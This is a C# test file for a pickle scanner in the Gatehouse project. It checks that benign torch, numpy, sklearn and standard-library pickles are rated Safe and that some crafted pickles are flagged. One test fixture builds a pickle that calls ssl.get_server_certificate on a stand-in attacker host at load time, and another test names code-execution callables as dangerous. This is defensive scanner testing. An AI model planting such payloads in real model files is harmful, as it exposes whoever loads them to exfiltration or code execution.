using Gatehouse.Scanning.Pickle;
using static Gatehouse.Scanning.Tests.Pickle.PickleAssembler;
using static Gatehouse.Scanning.Tests.Pickle.PickleScanning;

namespace Gatehouse.Scanning.Tests.Pickle;

/// <summary>The benign corpus cases B1–B12 that naive scanners flag: all must be Safe.</summary>
public sealed class BenignPickleTests
{
    /// <summary>A torch.save state_dict's data.pkl: OrderedDict of _rebuild_tensor_v2(persistent storage, …).</summary>
    internal static byte[] StateDictPickle(string key = "weight", string storageKey = "0")
    {
        return new PickleAssembler().Proto(2)
            .Global("collections", "OrderedDict").BinPut(0).EmptyTuple().Reduce().BinPut(1)
            .Mark()
            .BinUnicode(key).BinPut(2)
            .Global("torch._utils", "_rebuild_tensor_v2").BinPut(3)
            .Mark().Mark().BinUnicode("storage").BinPut(4).Global("torch", "FloatStorage").BinPut(5).BinUnicode(storageKey).BinPut(6)
            .BinUnicode("cpu").BinPut(7).Int(4).Tuple().BinPut(8).BinPersId()
            .Int(0).Int(2).Int(2).Tuple2().BinPut(9).Int(2).Int(1).Tuple2().BinPut(10).False()
            .Global("collections", "OrderedDict").BinPut(11).EmptyTuple().Reduce().BinPut(12)
            .Tuple().BinPut(13).Reduce().BinPut(14)
            .SetItems()
            .Stop().ToArray();
    }

    [Fact]
    public void B1_a_torch_state_dict_data_pkl_is_safe()
    {
        var findings = AssertVerdict(ScanLevel.Safe, new PickleAssembler().Proto(2)
            .Global("collections", "OrderedDict").EmptyTuple().Reduce()
            .Unicode("weight")
            .Global("torch._utils", "_rebuild_tensor_v2")
            .Mark().Mark().BinUnicode("storage").Global("torch", "FloatStorage").BinUnicode("0").BinUnicode("cpu").Int(4).Tuple().BinPersId()
            .Int(0).Int(2).Int(2).Tuple2().Int(2).Int(1).Tuple2().False()
            .Global("collections", "OrderedDict").EmptyTuple().Reduce().Tuple().Reduce()
            .SetItem()
            .EmptyDict().Build()
            .Stop().ToArray());
        Assert.Empty(findings);
    }

    [Fact]
    public void B2_a_200_000_entry_dict_of_small_tuples_is_safe()
    {
        var (bytes, opcodes) = SyntheticPickles.LargeDict(200_000);
        Assert.InRange(opcodes, 1_400_000, 1_401_000);
        Assert.Empty(AssertVerdict(ScanLevel.Safe, bytes));
    }

    [Fact]
    public void B3_training_state_pickles_are_safe()
    {
        var pickle = new PickleAssembler().Proto(4).EmptyDict()
            .Unicode("counter").StackGlobal("collections", "Counter").EmptyDict().Unicode("a").Int(3).SetItem().Tuple1().Reduce().SetItem()
            .Unicode("defaults").StackGlobal("collections", "defaultdict").StackGlobal("builtins", "list").Tuple1().Reduce().SetItem()
            .Unicode("args").StackGlobal("argparse", "Namespace").EmptyTuple().NewObj().EmptyDict().Unicode("lr").Float(0.1).SetItem().Build().SetItem()
            .Unicode("training_args").StackGlobal("transformers.training_args", "TrainingArguments").EmptyTuple().NewObj()
                .EmptyDict()
                .Unicode("eval_strategy").StackGlobal("transformers.trainer_utils", "IntervalStrategy").Unicode("steps").Tuple1().Reduce().SetItem()
                .Unicode("save_strategy").StackGlobal("transformers.trainer_utils", "SaveStrategy").Unicode("epoch").Tuple1().Reduce().SetItem()
                .Unicode("optim").StackGlobal("transformers.training_args", "OptimizerNames").Unicode("adamw_torch").Tuple1().Reduce().SetItem()
                .Build().SetItem()
            .Unicode("state").StackGlobal("accelerate.state", "PartialState").EmptyTuple().NewObj().EmptyDict().Build().SetItem()
            .Stop().ToArray();
        Assert.Empty(AssertVerdict(ScanLevel.Safe, pickle));
    }

    [Fact]
    public void B3_running_TrainingArguments_init_instead_of_NEWOBJ_is_suspicious()
    {
        var pickle = new PickleAssembler().Proto(4).StackGlobal("transformers.training_args", "TrainingArguments").Unicode("out").Tuple1().Reduce().Stop().ToArray();
        Assert.True(AssertVerdict(ScanLevel.Suspicious, pickle).Has(PickleRules.UnexpectedInit));
    }

    /// <summary>An object .npy body: ndarray.__reduce__ through _reconstruct, a dtype('O8') and a list of items.</summary>
    internal static byte[] ObjectArrayPickle(string multiarray, Action<PickleAssembler>? item = null)
    {
        var p = new PickleAssembler().Proto(3)
            .Global(multiarray, "_reconstruct").BinPut(0)
            .Global("numpy", "ndarray").BinPut(1)
            .Int(0).Tuple1().BinPut(2)
            .Bytes("b"u8).BinPut(3)
            .Tuple3().BinPut(4).Reduce().BinPut(5)
            .Mark().Int(1).Int(2).Int(2).Tuple2().BinPut(6)
            .Global("numpy", "dtype").BinPut(7).BinUnicode("O8").BinPut(8).False().True().Tuple3().BinPut(9).Reduce().BinPut(10)
            .Mark().Int(3).BinUnicode("|").BinPut(11).None().None().None().Int(-1).Int(-1).Int(63).Tuple().BinPut(12).Build()
            .False()
            .EmptyList().BinPut(13).Mark().Int(1).Int(2).Int(3);
        item?.Invoke(p);
        if (item is null)
        {
            p.Int(4);
        }
        return p.Appends().Tuple().BinPut(14).Build().Stop().ToArray();
    }

    [Theory]
    [InlineData("numpy.core.multiarray")]
    [InlineData("numpy._core.multiarray")]
    public void B4_an_object_npy_body_of_plain_ints_is_safe(string multiarray)
    {
        Assert.Empty(AssertVerdict(ScanLevel.Safe, ObjectArrayPickle(multiarray)));
    }

    [Fact]
    public void B4_an_object_array_whose_element_reduces_to_a_network_call_is_dangerous()
    {
        var pickle = ObjectArrayPickle("numpy.core.multiarray",
            p => p.Global("ssl", "get_server_certificate").BinUnicode("secret.attacker.invalid").Int(443).Tuple2().Tuple1().Reduce());
        AssertVerdict(ScanLevel.Dangerous, pickle);
    }

    [Fact]
    public void B5_codecs_encode_and_copyreg_reconstructor_are_safe()
    {
        var pickle = new PickleAssembler().Proto(2)
            .Global("_codecs", "encode").BinUnicode("\u00c3\u00bf\u0000rng-state").BinUnicode("latin1").Tuple2().Reduce().Pop()
            .Global("copyreg", "_reconstructor").Global("collections", "OrderedDict").Global("builtins", "object").None().Tuple3().Reduce()
            .EmptyDict().Build()
            .Stop().ToArray();
        Assert.Empty(AssertVerdict(ScanLevel.Safe, pickle));
    }

    [Fact]
    public void B5_python_2_builtins_below_protocol_3_map_to_safe_builtins()
    {
        var pickle = Latin1("c__builtin__\nset\n((lp0\nI1\naI2\natp1\nRp2\n.");
        Assert.Empty(AssertVerdict(ScanLevel.Safe, pickle));
    }

    [Fact]
    public void B6_other_canonical_torch_rebuilds_and_dtypes_are_safe()
    {
        var pickle = new PickleAssembler().Proto(2).Mark()
            .Global("torch._utils", "_rebuild_parameter").Mark().Global("torch._utils", "_rebuild_tensor_v3").None().Tuple1().Reduce().True().Global("collections", "OrderedDict").EmptyTuple().Reduce().Tuple().Reduce()
            .Global("torch._utils", "_rebuild_parameter_with_state").None().Tuple1().Reduce()
            .Global("torch._utils", "_rebuild_qtensor").None().Tuple1().Reduce()
            .Global("torch._utils", "_rebuild_sparse_tensor").None().Tuple1().Reduce()
            .Global("torch._utils", "_rebuild_device_tensor_from_numpy").None().Tuple1().Reduce()
            .Global("torch._tensor", "_rebuild_from_type_v2").Mark().Global("torch._utils", "_rebuild_tensor_v2").Global("torch.nn.parameter", "Parameter").EmptyTuple().EmptyDict().Tuple().Reduce()
            .Global("torch", "Size").Int(2).Int(3).Tuple2().Tuple1().Reduce()
            .Global("torch", "device").BinUnicode("cuda:0").Tuple1().Reduce()
            .Global("torch", "float16").Global("torch", "bfloat16").Global("torch", "float32").Global("torch", "per_tensor_affine")
            .List().Stop().ToArray();
        Assert.Empty(AssertVerdict(ScanLevel.Safe, pickle));
    }

    private static byte[] LoadFromBytes(byte[] nested) =>
        new PickleAssembler().Proto(2).Global("torch.storage", "_load_from_bytes").Bytes(nested).Tuple1().Reduce().Stop().ToArray();

    private static readonly byte[] FakeTorchZip = [.. "PK\u0003\u0004"u8, .. new byte[60]];

    [Fact]
    public void B7_load_from_bytes_of_an_archive_the_archive_scanner_finds_clean_is_safe()
    {
        var calls = new List<(string Path, int Depth)>();
        var options = new PickleScanOptions
        {
            NestedArchiveScanner = (archive, path, depth) =>
            {
                calls.Add((path, depth));
                Assert.True(archive.Span.StartsWith("PK\u0003\u0004"u8));
                return [];
            },
        };
        Assert.Empty(AssertVerdict(ScanLevel.Safe, LoadFromBytes(FakeTorchZip), options: options));
        Assert.Equal(1, Assert.Single(calls).Depth);
    }

    [Fact]
    public void B7_load_from_bytes_of_an_archive_with_a_dangerous_member_is_dangerous()
    {
        var options = new PickleScanOptions
        {
            NestedArchiveScanner = (_, path, _) => [new ModelFinding(PickleRules.DangerousCall, ScanLevel.Dangerous, "inner", path + "!archive/data.pkl")],
        };
        AssertVerdict(ScanLevel.Dangerous, LoadFromBytes(FakeTorchZip), options: options);
    }

    [Fact]
    public void B7_load_from_bytes_of_an_archive_nobody_can_scan_is_suspicious()
    {
        Assert.True(AssertVerdict(ScanLevel.Suspicious, LoadFromBytes(FakeTorchZip)).Has(PickleRules.NestedArchiveUnscanned));
    }

    [Fact]
    public void B7_load_from_bytes_of_a_clean_nested_pickle_is_safe()
    {
        Assert.Empty(AssertVerdict(ScanLevel.Safe, LoadFromBytes(StateDictPickle())));
    }

    [Fact]
    public void B7_load_from_bytes_of_a_value_computed_at_load_time_is_dangerous()
    {
        var pickle = new PickleAssembler().Proto(2).Global("torch.storage", "_load_from_bytes")
            .Global("builtins", "bytes").Int(10).Tuple1().Reduce().Tuple1().Reduce().Stop().ToArray();
        Assert.True(AssertVerdict(ScanLevel.Dangerous, pickle).Has(PickleRules.NestedLoad));
    }

    [Fact]
    public void B9_a_pickle_followed_by_non_pickle_bytes_is_safe_and_the_tail_is_reported()
    {
        var tail = new byte[4096];
        new Random(7).NextBytes(tail);
        tail[0] = 0xFF; // not an opcode
        var findings = AssertVerdict(ScanLevel.Safe, [.. StateDictPickle(), .. tail]);
        var trailing = findings.Single(PickleRules.TrailingData);
        Assert.Equal(ScanLevel.Safe, trailing.Level);
        Assert.Contains("4,096 bytes", trailing.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void B9_a_tail_that_starts_like_a_pickle_but_breaks_is_suspicious()
    {
        var findings = AssertVerdict(ScanLevel.Suspicious, [.. StateDictPickle(), .. Hex("8004950a00000000000000")]);
        Assert.True(findings.Has(PickleRules.TrailingOpcodes));
    }

    [Fact]
    public void A_full_state_dict_with_memo_puts_is_safe()
    {
        Assert.Empty(AssertVerdict(ScanLevel.Safe, StateDictPickle()));
    }

    [Fact]
    public void A_sklearn_estimator_with_numpy_state_is_safe()
    {
        var pickle = new PickleAssembler().Proto(4)
            .StackGlobal("sklearn.linear_model._logistic", "LogisticRegression").Memoize().EmptyTuple().NewObj().Memoize()
            .EmptyDict().Memoize()
            .Unicode("C").Float(1.0).SetItem()
            .Unicode("random_state").StackGlobal("numpy.random.mtrand", "RandomState").EmptyTuple().NewObj().SetItem()
            .Unicode("_sklearn_version").Unicode("1.5.0").SetItem()
            .Build().Stop().ToArray();
        Assert.Empty(AssertVerdict(ScanLevel.Safe, pickle));
    }

    [Fact]
    public void An_unknown_but_harmless_looking_global_is_suspicious_not_dangerous()
    {
        var findings = AssertVerdict(ScanLevel.Suspicious, new PickleAssembler().Proto(4).StackGlobal("mypackage.models", "Net").EmptyTuple().NewObj().Stop().ToArray());
        Assert.True(findings.Has(PickleRules.UnknownGlobal, "mypackage.models.Net"));
        Assert.True(findings.Has(PickleRules.UnknownCall, "mypackage.models.Net"));
    }

    [Fact]
    public void A_sklearn_function_is_not_covered_by_the_estimator_class_allow_list()
    {
        AssertVerdict(ScanLevel.Suspicious, CallPickle("sklearn.linear_model._base", "make_dataset", "x"));
    }

    /// <summary>
    /// Each standard-library value type as CPython's pickler writes it (its <c>__reduce__</c>/<c>__getstate__</c>), with the
    /// reason constructing it runs nothing: the constructor or <c>__setstate__</c> only parses and stores its arguments.
    /// </summary>
    public static TheoryData<string, byte[]> StandardLibraryValues => new()
    {
        // Decimal.__reduce__ = (Decimal, (str(self),)): Decimal("1.25") parses digits.
        { "decimal.Decimal", new PickleAssembler().Proto(2).Global("decimal", "Decimal").BinUnicode("1.25").Tuple1().Reduce().Stop().ToArray() },
        // Fraction.__reduce__ = (Fraction, (numerator, denominator)): two ints, normalised by gcd.
        { "fractions.Fraction", new PickleAssembler().Proto(2).Global("fractions", "Fraction").Int(3).Int(4).Tuple2().Reduce().Stop().ToArray() },
        // _BaseAddress.__reduce__ = (cls, (self._ip,)): an int stored as the address.
        { "ipaddress.IPv4Address", new PickleAssembler().Proto(2).Global("ipaddress", "IPv4Address").Int(167772161).Tuple1().Reduce().Stop().ToArray() },
        { "ipaddress.IPv6Address", new PickleAssembler().Proto(2).Global("ipaddress", "IPv6Address").Int(1).Tuple1().Reduce().Stop().ToArray() },
        // _BaseNetwork/_BaseInterface __reduce__ = (cls, (str(self),)): the string is parsed, nothing resolved.
        { "ipaddress.IPv4Network", new PickleAssembler().Proto(2).Global("ipaddress", "IPv4Network").BinUnicode("10.0.0.0/8").Tuple1().Reduce().Stop().ToArray() },
        { "ipaddress.IPv6Network", new PickleAssembler().Proto(2).Global("ipaddress", "IPv6Network").BinUnicode("fe80::/64").Tuple1().Reduce().Stop().ToArray() },
        { "ipaddress.IPv4Interface", new PickleAssembler().Proto(2).Global("ipaddress", "IPv4Interface").BinUnicode("10.0.0.1/8").Tuple1().Reduce().Stop().ToArray() },
        { "ipaddress.IPv6Interface", new PickleAssembler().Proto(2).Global("ipaddress", "IPv6Interface").BinUnicode("::1/128").Tuple1().Reduce().Stop().ToArray() },
        // UUID.__getstate__ = {'int': …}; protocol 2 writes NEWOBJ + BUILD, and __setstate__ stores the int.
        { "uuid.UUID", new PickleAssembler().Proto(2).Global("uuid", "UUID").EmptyTuple().NewObj().EmptyDict().BinUnicode("int").Int(4660).SetItem().Build().Stop().ToArray() },
        // SafeUUID is an Enum: SafeUUID(0) looks a member up by value.
        { "uuid.SafeUUID", new PickleAssembler().Proto(2).Global("uuid", "SafeUUID").Int(0).Tuple1().Reduce().Stop().ToArray() },
        // SimpleNamespace.__reduce__ = (type(self), (), self.__dict__): an empty namespace, then BUILD sets attributes.
        { "types.SimpleNamespace", new PickleAssembler().Proto(2).Global("types", "SimpleNamespace").EmptyTuple().Reduce().EmptyDict().BinUnicode("lr").Float(0.001).SetItem().Build().Stop().ToArray() },
        // array.__reduce_ex__ below protocol 3 = (array, (typecode, list)).
        { "array.array", new PickleAssembler().Proto(2).Global("array", "array").BinUnicode("f").EmptyList().Float(1).Append().Tuple2().Reduce().Stop().ToArray() },
        // ... and at protocol 3+ = (_array_reconstructor, (array, typecode, mformat_code, bytes)).
        { "array._array_reconstructor", new PickleAssembler().Proto(4).Global("array", "_array_reconstructor").Mark().Global("array", "array").BinUnicode("f").Int(15).Bytes(new byte[8]).Tuple().Reduce().Stop().ToArray() },
        // PurePath.__reduce__ = (type(self), self.parts) where Python 3.13 defines the classes.
        { "pathlib._local.PurePosixPath", new PickleAssembler().Proto(2).Global("pathlib._local", "PurePosixPath").BinUnicode("a").BinUnicode("b").Tuple2().Reduce().Stop().ToArray() },
    };

    [Theory]
    [MemberData(nameof(StandardLibraryValues))]
    public void A_standard_library_value_type_is_safe_because_constructing_it_only_stores_its_arguments(string type, byte[] pickle)
    {
        var findings = AssertVerdict(ScanLevel.Safe, pickle);
        Assert.True(findings.Count == 0, $"{type}: {string.Join("; ", findings)}");
    }

    [Theory]
    [InlineData("uuid", "getnode", ScanLevel.Dangerous)]
    [InlineData("uuid", "uuid1", ScanLevel.Dangerous)]
    [InlineData("uuid", "_get_command_stdout", ScanLevel.Dangerous)]
    [InlineData("types", "FunctionType", ScanLevel.Dangerous)]
    [InlineData("types", "CodeType", ScanLevel.Dangerous)]
    [InlineData("decimal", "getcontext", ScanLevel.Suspicious)]
    [InlineData("ipaddress", "ip_address", ScanLevel.Suspicious)]
    [InlineData("uuid", "uuid4", ScanLevel.Suspicious)]
    public void The_value_types_module_is_judged_by_the_callable_named_not_by_the_module(string module, string name, ScanLevel expected)
    {
        AssertVerdict(expected, CallPickle(module, name, "x"));
    }
}
